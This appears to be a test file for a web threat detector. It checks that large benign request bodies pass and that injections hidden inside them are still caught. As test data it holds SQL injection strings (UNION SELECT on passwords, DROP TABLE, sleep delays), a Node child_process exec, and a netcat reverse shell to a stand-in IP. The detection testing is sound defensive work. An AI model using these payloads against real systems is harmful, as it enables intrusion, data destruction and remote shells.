/**
 * Bodies real applications receive, about 10 KB each, full of quotes, parentheses, `;` and SQL-ish
 * words: JSON holding JSON text, a minified bundle (sent as JavaScript, or inside JSON as a source map
 * carries it), a base64 image, CSV and markdown. None is an attack, none is refused; and an attack
 * hidden deep inside such a body is still found, since long values are read around the tokens an
 * injection starts from rather than skipped.
 */
import { describe, expect, it } from "@effect/vitest"
import { Effect } from "effect"
import { type DetectionInput, ThreatDetector } from "../../src/ThreatDetector.js"

const detector = Effect.runSync(ThreatDetector.make())
const detect = (input: DetectionInput) => detector.detect(input)

const WORDS = "the quick brown fox jumps over a lazy dog please select an option from our list and update your profile settings today it's great".split(" ")
const words = (n: number, seed: number) => Array.from({ length: n }, (_, i) => WORDS[(seed * 7 + i * 13) % WORDS.length]).join(" ")
const upTo = (size: number, part: (i: number) => string) => {
  let text = ""
  for (let i = 0; text.length < size; i++) text += part(i)
  return text
}

const items = Array.from({ length: 40 }, (_, i) => ({ id: i, name: words(4, i), description: words(18, i + 1), email: `user${i}@example.com`, tags: ["sale", "new"] }))
const bundle = `!function(){"use strict";${
  upTo(10_000, (i) =>
    [
      `function a${i}(b,c){return b&&b.length>0?b.map(function(x){return x[c]}):[]}`,
      `var d${i}=e.prototype.hasOwnProperty,f=Object.keys(d${i}||{});`,
      `module.exports={default:g${i},__esModule:!0};`,
      `if(!h||typeof h!=="object")throw new TypeError("expected "+h);`,
      `document.getElementById("${words(1, i)}").addEventListener("click",function(){k(${i})});`,
      `n=o?p:{id:${i},name:"${words(2, i)}"};var env=process.env.NODE_ENV;`
    ][i % 6] ?? ""
  )
}}();`
const README = [
  "## Installation",
  "```sh",
  "npm install --save effect-guard @effect/platform",
  "```",
  "Then wire it in (see [the docs](https://example.com/docs#setup) and `docs/configuration.md`):",
  "| option | default | notes |",
  "| `rateLimit` | `100/min` | per client, *not* per route |",
  "> **Note**: it's safe to run behind a proxy; set `trustProxy: 1` & read the [FAQ](#faq).",
  "- [ ] \"passive\" mode (log only)",
  ""
].join("\n")

const json = (value: unknown): DetectionInput => ({ path: "/api/v1/upload", headers: { "content-type": "application/json" }, body: { kind: "json", text: JSON.stringify(value) } })
const text = (contentType: string, value: string): DetectionInput => ({ path: "/api/v1/upload", headers: { "content-type": contentType }, body: { kind: "text", text: value } })

const SHAPES: ReadonlyArray<readonly [string, DetectionInput]> = [
  ["JSON holding JSON text", json({ type: "snapshot", payload: JSON.stringify({ items }) })],
  ["a minified bundle sent as JavaScript", text("text/javascript", bundle)],
  ["a minified bundle inside JSON, as a source map carries it", json({ version: 3, file: "app.js", sourcesContent: [bundle] })],
  ["a base64 image in JSON", json({ filename: "avatar.png", data: `data:image/png;base64,${Buffer.from(upTo(7_500, (i) => String.fromCharCode((i * 37) % 256))).toString("base64")}` })],
  ["CSV with quoted cells", text("text/csv", `id,name,email,notes\n${upTo(10_000, (i) => `${i},"${words(2, i)}",user${i}@example.com,"${words(5, i).replace(" a ", " \"a\" ")}; ok"\n`)}`)],
  ["a markdown README", text("text/markdown", `# effect-guard\n\n${upTo(10_000, () => README)}`)]
]

describe("punctuation-heavy bodies", () => {
  it.effect.each(SHAPES)("lets %s through", ([, input]) =>
    Effect.gen(function*() {
      const result = yield* detect(input)
      expect(result.ruleIds).toEqual(expect.not.arrayContaining(["code-025"]))
      expect(result.isThreat).toBe(false)
    }))

  it.effect.each([
    ["a condition after a quote", "x' or 7=7 --"],
    ["UNION SELECT", "0 union select password,2,3 from users"],
    ["a delay call", "1 and sleep(5)"],
    ["a stacked statement", "1; drop table users --"],
    ["UNION and SELECT split by comment lines", "-1 union all#pad\n#pad\nselect 1,2,3"],
    ["a Node.js child process", "require('child_process').exec('id')"]
  ])("still finds %s deep inside JSON text", ([, attack]) =>
    Effect.gen(function*() {
      const payload = JSON.stringify({ items, note: attack })
      expect(payload.length).toBeGreaterThan(8_000)
      expect((yield* detect(json({ type: "snapshot", payload }))).isThreat).toBe(true)
    }))
})

/**
 * The platform reads any body as a form (`urlParamsBody`, `schemaBodyForm`), whatever its type, and
 * there `+` is a space: a text body is scanned as the form it is to such an application as well.
 */
describe("text bodies read as forms", () => {
  const plus = (value: string) => encodeURIComponent(value).replace(/%20/g, "+")

  it.effect.each([
    ["UNION SELECT", "1' union select password from users--"],
    ["a condition after a number", "1 or 1=1"],
    ["a stacked statement", "1; drop table users"],
    ["a reverse shell", "| nc -e /bin/sh 203.0.113.9 4444"]
  ] as const)("finds %s written with '+' for spaces in a text body", ([, attack]) =>
    Effect.gen(function*() {
      for (const body of [`page=2&q=${plus(attack)}`, `q=${plus(attack)}&page=2`, `{"q=${plus(attack)}`, `<note/>&q=${plus(attack)}`]) {
        expect({ body, threat: (yield* detect(text("text/plain", body))).isThreat }).toEqual({ body, threat: true })
      }
    }))

  it.effect.each([
    ["a form of notes", "note=see+you+at+5&sum=3+4&tags=c+++,node"],
    ["a single-line base64 block", Buffer.from(upTo(3_000, (i) => String.fromCharCode((i * 53) % 256))).toString("base64")],
    ["arithmetic in prose", "Let x = a + b, and y = 2 + 2 = 4; then x + y = total."],
    ["an XML document with sums", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><sheet><cell ref=\"C1\">=A1+B1</cell><cell>x+y</cell></sheet>"],
    ["a query string copied into a note", "utm_source=news+letter&utm_campaign=spring+sale+2024&ref=home+page"]
  ] as const)("lets %s through", ([, body]) =>
    Effect.gen(function*() {
      expect((yield* detect(text("text/plain", body))).isThreat).toBe(false)
    }))
})
